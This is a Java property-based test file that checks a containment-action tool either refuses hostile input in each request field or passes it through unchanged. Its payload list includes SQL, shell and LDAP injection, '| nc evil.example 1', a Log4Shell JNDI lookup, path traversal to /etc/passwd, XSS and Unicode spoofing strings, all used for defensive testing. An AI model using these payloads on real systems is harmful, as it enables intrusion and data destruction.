package dev.cordon.action;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cordon.document.Arguments;
import dev.cordon.document.Place;
import dev.cordon.document.Problem;
import dev.cordon.document.Reading;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import tools.jackson.core.JsonPointer;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;
import tools.jackson.databind.node.StringNode;

/** Whatever an attacker calls a thing, it is refused with a problem or arrives as data, letter by letter. */
class HostileTextTest {

    private static final List<String> HOSTILE = List.of(
            "'; DROP TABLE users; --",
            "\"",
            "$(reboot)",
            "${jndi:ldap://evil.example/a}",
            "${sg}",
            "`id`",
            "; rm -rf /",
            "| nc evil.example 1",
            "&& true",
            "\n- firewall_block: {}",
            "\r\nX-Header: 1",
            "\0",
            "*)(uid=*))(|(uid=*",
            "\\2a\\28",
            "CN=a,OU=b",
            "{\"a\": 1}",
            "[1, 2]",
            "%s%n",
            "../../etc/passwd",
            "\u001b[2J",
            "\u202egnp.exe",
            "\u200f",
            "\u0430dmin",
            "p\u0430yp\u0430l.example",
            "\uff41dmin",
            "\ud83d",
            "\ude00",
            "\ud83d\ude00",
            "\u2028",
            "\u0085",
            "<script>alert(1)</script>",
            "!!javax.script.ScriptEngineManager",
            "*alias",
            "&anchor",
            "--help",
            "null",
            "true",
            "a".repeat(10_240),
            "\"".repeat(10_240));

    /** One text of one request: a parameter, a value in a list, or one inside a mapping. */
    record Field(ActionKind kind, JsonPointer pointer) {

        JsonNode parameters() {
            return Samples.full(kind).parameters();
        }

        JsonNode parametersWith(String text) {
            var parameters = parameters();
            var parent = parameters.at(pointer.head());
            switch (parent) {
                case ObjectNode object -> object.put(pointer.last().getMatchingProperty(), text);
                case ArrayNode array -> array.set(pointer.last().getMatchingIndex(), StringNode.valueOf(text));
                default -> throw new AssertionError("no text inside " + parent);
            }
            return parameters;
        }
    }

    @ParameterizedTest
    @EnumSource
    void known_attacks_in_every_field_are_refused_or_arrive_unchanged(ActionKind kind) {
        var fields = fieldsOf(kind);

        assertThat(fields).isNotEmpty();
        for (var field : fields) {
            for (var text : HOSTILE) {
                assertRefusedOrUnchanged(ContainmentRequest.read(kind, field.parametersWith(text)), field, text);
            }
        }
    }

    @Property(tries = 1000)
    void hostile_text_in_a_document_is_refused_or_arrives_unchanged(
            @ForAll("fields") Field field, @ForAll("hostile") String text) {
        var reading = ContainmentRequest.read(field.kind(), field.parametersWith(text));

        assertRefusedOrUnchanged(reading, field, text);
    }

    @Property(tries = 1000)
    void hostile_text_on_the_command_line_is_refused_or_arrives_unchanged(
            @ForAll("parameters") Field field, @ForAll("hostile") String text) {
        var name = field.pointer().getMatchingProperty();
        var words = new ArrayList<String>();
        for (var parameter : field.parameters().properties()) {
            var value = parameter.getKey().equals(name) ? text : onCommandLine(parameter.getValue());
            words.add(parameter.getKey() + "=" + value);
        }

        var reading = Reading.with(
                problems -> field.kind().read(Arguments.read(words, 1, problems), Place.of("command line"), problems));

        assertRefusedOrUnchanged(reading, field, text);
    }

    @Property
    void hostile_target_never_makes_a_generated_reason_that_is_refused(@ForAll("hostile") String text) {
        var given = new Field(ActionKind.TERMINATE_PROCESS, JsonPointer.compile("/process_name")).parametersWith(text);
        ((ObjectNode) given).remove("reason");

        var reading = ContainmentRequest.read(ActionKind.TERMINATE_PROCESS, given);

        switch (reading) {
            case Reading.Read<ContainmentRequest>(var request) ->
                assertThat(request.reason().value()).startsWith("Terminate the process ");
            case Reading.Wrong<ContainmentRequest>(var problems) -> assertFitForATerminal(problems);
        }
    }

    private static void assertRefusedOrUnchanged(Reading<ContainmentRequest> reading, Field field, String text) {
        switch (reading) {
            case Reading.Read<ContainmentRequest>(var request) ->
                assertArrived(request.parameters().at(field.pointer()).stringValue(), text);
            case Reading.Wrong<ContainmentRequest>(var problems) -> assertFitForATerminal(problems);
        }
    }

    /** Letter by letter; a name of the DNS in its one spelling, in which nothing looks like something else. */
    private static void assertArrived(String value, String text) {
        if (value.chars().allMatch(c -> c < 128) && !text.chars().allMatch(c -> c < 128)) {
            assertThat(value).matches("(.*@)?(.*\\.)?xn--[a-z0-9._-]+");
        } else {
            assertThat(value).isIn(text, text.replaceFirst("\\.$", "").toLowerCase(Locale.ROOT));
        }
    }

    private static void assertFitForATerminal(List<Problem> problems) {
        assertThat(problems)
                .isNotEmpty()
                .allSatisfy(problem -> assertThat(problem.toString())
                        .hasSizeLessThan(2000)
                        .doesNotMatch("(?s).*[\\p{Cntrl}\\p{Cf}\\p{Cs}\\p{Zl}\\p{Zp}].*"));
    }

    private static String onCommandLine(JsonNode value) {
        return value.isString() ? value.stringValue() : value.toString();
    }

    /** Each text of each request. */
    @Provide
    Arbitrary<Field> fields() {
        return Arbitraries.of(Arrays.stream(ActionKind.values())
                .map(HostileTextTest::fieldsOf)
                .flatMap(List::stream)
                .toList());
    }

    /** Those that are one word of a command: neither a list nor inside a mapping. */
    @Provide
    Arbitrary<Field> parameters() {
        return fields().filter(field -> field.pointer().tail().matches());
    }

    private static List<Field> fieldsOf(ActionKind kind) {
        var fields = new ArrayList<Field>();
        collect(kind, Samples.full(kind).parameters(), JsonPointer.empty(), fields);
        return fields;
    }

    private static void collect(ActionKind kind, JsonNode node, JsonPointer at, List<Field> into) {
        switch (node) {
            case ObjectNode object ->
                object.properties()
                        .forEach(one -> collect(kind, one.getValue(), at.appendProperty(one.getKey()), into));
            case ArrayNode array -> {
                for (var i = 0; i < array.size(); i++) {
                    collect(kind, array.get(i), at.appendIndex(i), into);
                }
            }
            case StringNode _ -> into.add(new Field(kind, at));
            default -> {}
        }
    }

    /** Harmless at its ends, hostile in its middle, so that it does not fail at the first letter. */
    @Provide
    Arbitrary<String> hostile() {
        var ends = Arbitraries.of("", "a", "web1", "j.doe", "'", "/x");
        var middle = Arbitraries.oneOf(
                Arbitraries.of(HOSTILE),
                Arbitraries.strings().ofMaxLength(40),
                Arbitraries.strings().ascii().ofMaxLength(20));
        return Combinators.combine(ends, middle, ends).as((before, text, after) -> before + text + after);
    }
}
